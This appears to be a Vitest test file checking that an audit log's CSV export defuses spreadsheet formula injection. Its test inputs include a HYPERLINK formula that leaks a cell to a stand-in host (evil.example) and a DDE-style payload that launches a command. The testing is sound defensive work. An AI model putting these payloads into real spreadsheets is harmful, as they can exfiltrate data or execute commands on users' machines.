import { describe, expect, it } from 'vitest';
import { groupRuns, toCsv } from '../../../../../../src/components/audit/client/runs.ts';
import { chain, GENESIS_HASH } from '../../../../../../server/audit/record.ts';
import { entry } from '../../../../../contract/audit-store.ts';

/** One finished run whose typed fields carry what a person could put in them. */
function run(fields: { reason: string; workflowId: string; error: string; step: string }) {
  const started = chain(
    entry({
      runId: 'run-1',
      input: { workflowId: fields.workflowId },
      reason: fields.reason,
      step: fields.step,
    }),
    1,
    GENESIS_HASH,
  );
  const finished = chain(
    entry({
      runId: 'run-1',
      kind: 'finished',
      outcome: 'failed',
      durationMs: 12,
      error: { code: 'target_error', message: fields.error },
    }),
    2,
    started.hash,
  );
  return groupRuns([started, finished]);
}

/** The cells of the one data row, as a spreadsheet reads them (quotes undone). */
function cells(csv: string): Record<string, string> {
  const [header, row] = csv.split('\n');
  const values = [...row!.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)]
    .map((match) => match[1]!)
    .map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell));
  return Object.fromEntries(header!.split(',').map((name, i) => [name, values[i]!]));
}

describe('the CSV export', () => {
  it('turns every cell a spreadsheet would run as a formula into text', () => {
    const csv = toCsv(
      run({
        reason: '=HYPERLINK("https://evil.example/?"&A1,"open")',
        workflowId: '+cmd|" /C calc"!A0',
        error: '-2+3',
        step: '@SUM(A1:A9)',
      }),
    );
    expect(cells(csv)).toMatchObject({
      reason: `'=HYPERLINK("https://evil.example/?"&A1,"open")`,
      target: `'+cmd|" /C calc"!A0`,
      error: `'-2+3`,
      step: `'@SUM(A1:A9)`,
    });
  });

  it('also when a tab or carriage return comes first', () => {
    const csv = toCsv(
      run({ reason: '\t=1+1', workflowId: '\r=1+1', error: 'plain', step: 'Step 2' }),
    );
    expect(csv).toContain(`,'\t=1+1,`);
    expect(csv).toContain(`,"'\r=1+1",`);
  });

  it('leaves ordinary values as they are', () => {
    const csv = toCsv(
      run({
        reason: 'Stuck since 10:02, see INC-42 (a = b)',
        workflowId: 'order-fulfillment-ORD-12345',
        error: 'workflow not found',
        step: 'Step 4',
      }),
    );
    expect(cells(csv)).toMatchObject({
      reason: 'Stuck since 10:02, see INC-42 (a = b)',
      target: 'order-fulfillment-ORD-12345',
      error: 'workflow not found',
      step: 'Step 4',
      durationMs: '12',
      outcome: 'failed',
    });
  });
});
